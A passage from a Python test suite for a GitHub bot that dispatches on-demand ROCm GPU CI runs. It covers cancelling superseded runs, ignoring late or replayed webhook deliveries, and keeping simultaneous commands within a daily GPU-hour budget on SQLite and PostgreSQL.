    again = od.sim.webhook("pull_request", "synchronize", app=od.world.app, repo=od.repo, pull=od.pr, sender="bob")
    od.world.deliver(again)
    od.world.drain()
    cancels = [e for e in od.sim.requests_log if e["operation"] == "actions/cancel-workflow-run"]
    assert len(cancels) == 1 and cancels[0]["status"] == 202


def test_a_late_or_replayed_push_of_an_older_head_changes_nothing(github_sim, tmp_path, env):
    """Issue 23 item 1. B is pushed, then C; GitHub delivers C's `synchronize` first and B's only
    after C's run was dispatched, then once more under a new delivery id (a replay). The order
    of pushes is GitHub's: the PR's head is C, so B's delivery cancels nothing, marks nothing
    superseded and posts nothing."""
    import dataclasses
    import uuid

    od = build_ondemand(github_sim, tmp_path)
    b = od.sim.push(od.repo, "feature", {NEW: _registered("90")})
    late = od.sim.webhook("pull_request", "synchronize", app=od.world.app, repo=od.repo, pull=od.pr, sender="bob")
    next_second()
    c = od.push({NEW: _registered("95")})  # C, delivered at once
    assert od.pr.head_sha == c != b
    od.comment(RUN, author="maint")
    [run_c] = od.dispatches()
    assert run_c["inputs"]["head_sha"] == c
    replies_before = od.replies()
    replay = dataclasses.replace(late, delivery_id=str(uuid.uuid4()),
                                 headers={**late.headers, "X-GitHub-Delivery": str(uuid.uuid4())})
    for delivery in (late, replay):
        assert od.world.deliver(delivery).status_code == 202
        od.world.drain()
    assert [e for e in od.sim.requests_log if e["operation"] == "actions/cancel-workflow-run"] == []
    [run] = [r for r in od.sim.workflow_runs(od.repo) if r["id"] == run_c["run_id"]]
    assert run["status"] != "completed"
    [check] = od.check_runs("MI350 · ")
    assert check["head_sha"] == c and check["status"] == "in_progress" and "Superseded" not in (
        check["output"]["title"] or "")
    url = od.world.settings.database_url
    [request] = store.requests_for_pull(url, od.repo.full_name, od.pr.number)
    assert request.status == "dispatched" and request.head_sha == c
    assert "superseded" not in [e.action for e in store.audit_entries(url)]
    assert od.replies() == replies_before  # no "moved to B", no new note
    # C's own replayed push is C's: still nothing to cancel
    again = od.sim.webhook("pull_request", "synchronize", app=od.world.app, repo=od.repo, pull=od.pr, sender="bob")
    od.world.deliver(again)
    od.world.drain()
    assert store.get_request(url, request.id).status == "dispatched"


def test_cancelling_superseded_runs_can_be_turned_off(github_sim, tmp_path, env):
    od = build_ondemand(github_sim, tmp_path, config=CONFIG + "  cancel_superseded_runs: false\n")
    first, old, new = _run_then_push(od)
    [run] = [r for r in od.sim.workflow_runs(od.repo) if r["id"] == first["run_id"]]
    assert run["status"] != "completed"
    [check] = od.check_runs("MI350 · ")
    assert check["status"] == "in_progress"
    od.comment(RUN, author="maint")  # in flight is per (PR, suite, head): the new head runs anyway
    assert [d["inputs"]["head_sha"] for d in od.dispatches()] == [old, new]


def test_a_superseded_run_that_already_finished_is_left_alone(github_sim, tmp_path, env):
    od = build_ondemand(github_sim, tmp_path)
    od.comment(RUN, author="maint")
    [first] = od.dispatches()
    od.sim.complete_run(first["run_id"], conclusion="success")  # its completion event not delivered yet
    new = od.push({NEW: _registered("90")})
    cancels = [e for e in od.sim.requests_log if e["operation"] == "actions/cancel-workflow-run"]
    assert [e["status"] for e in cancels] == [409]  # GitHub: a completed run cannot be cancelled
    [check] = od.check_runs("MI350 · ")
    assert check["conclusion"] == "cancelled" and new[:7] in check["output"]["title"]


# -- the budget holds under simultaneous commands ---------------------------------------------------------
BUDGET = 16.0  # GPU-hours: two 4-GPU suites (7.20 h each), or one of them and the 8-GPU suite (8.00 h), no more


def _many_prs(od, count: int) -> list:
    prs = [od.pr]
    for i in range(2, count + 1):
        od.sim.push(od.repo, f"feature{i}", {f"tests/e2e/test_new{i}.py": _registered("90")})
        prs.append(od.sim.open_pull_request(od.repo, f"feature{i}", "main", author="bob"))
    od.repo.pushed_at -= 600  # pushed well before the commands
    return prs


def _simultaneous_commands(od, prs, per_slot: int = 2) -> list[dict]:
    """Every (PR, suite) commanded `per_slot` times by maintainers; all jobs run at once on threads."""
    import threading

    suites = (SUITE, "nightly-stage-c-8-gpu-mi350")
    for pr in prs:
        for suite in suites:
            for who in ("maint", "admin1")[:per_slot]:
                c = od.sim.add_comment(od.repo, pr.number, f"/run-rocm {suite}", author=who)
                d = od.sim.webhook("issue_comment", "created", app=od.world.app, repo=od.repo, pull=pr, comment=c)
                assert od.world.deliver(d).status_code == 202
    tasks = []
    while (task := od.world.queue.dequeue()) is not None:
        tasks.append(task)
    assert len(tasks) == len(prs) * len(suites) * per_slot
    start = threading.Barrier(len(tasks))

    def work(task):
        start.wait(PATIENCE)
        od.world.queue.execute(task)

    threads = [threading.Thread(target=work, args=(t,)) for t in tasks]
    for t in threads:
        t.start()
    for t in threads:
        t.join(180)
    od.world.drain()
    return od.dispatches()


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_twenty_simultaneous_commands_stay_within_the_budget(github_sim, tmp_path, env, backend, request):
    database_url = request.getfixturevalue("fresh_pg_url") if backend == "postgresql" else None
    od = build_ondemand(github_sim, tmp_path, config=CONFIG.replace("daily_gpu_hours: 64", f"daily_gpu_hours: {BUDGET:g}"),
                        database_url=database_url)
    prs = _many_prs(od, 5)
    dispatched = _simultaneous_commands(od, prs)
    url = od.world.settings.database_url
    spent = [r for pr in prs for r in store.requests_for_pull(url, od.repo.full_name, pr.number, store.SPENT)]
    assert len(spent) == len(dispatched) >= 2
    assert sum(r.cost_gpu_hours for r in spent) <= BUDGET + 1e-9, [(r.pull_number, r.suite, r.cost_gpu_hours) for r in spent]
    # one run per (PR, suite, head), and each refused command was answered
    assert len({(r.pull_number, r.suite, r.head_sha) for r in spent}) == len(spent)
    for pr in prs:
        bodies = [c["body"] for c in od.sim.comments(od.repo, pr.number) if c["user"]["login"] == od.world.app.bot_login]
        assert len(bodies) == 4, bodies  # one answer per command: dispatched, already running or over budget
    assert store.gpu_hours_since(url, od.repo.full_name, store.now() - dt.timedelta(hours=24)) <= BUDGET + 1e-9


@pytest.fixture()
def fresh_pg_url():
    """A PostgreSQL database of its own (the budget is per repository: no other test's spend counts)."""
    import uuid

    from sqlalchemy import create_engine, text

    from bot.store.db import get_engine
    from tests.conftest import PG_ADMIN_URL

    name = f"cireg_budget_{uuid.uuid4().hex[:10]}"
    admin = create_engine(PG_ADMIN_URL, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    url = PG_ADMIN_URL.rsplit("/", 1)[0] + "/" + name
    yield url
    get_engine(url).dispose()
    with admin.connect() as conn:
        conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
    admin.dispose()


# The cost function itself (bot/ondemand/cost.py) has its own fast tests: tests/checks/target/test_ondemand_cost.py.
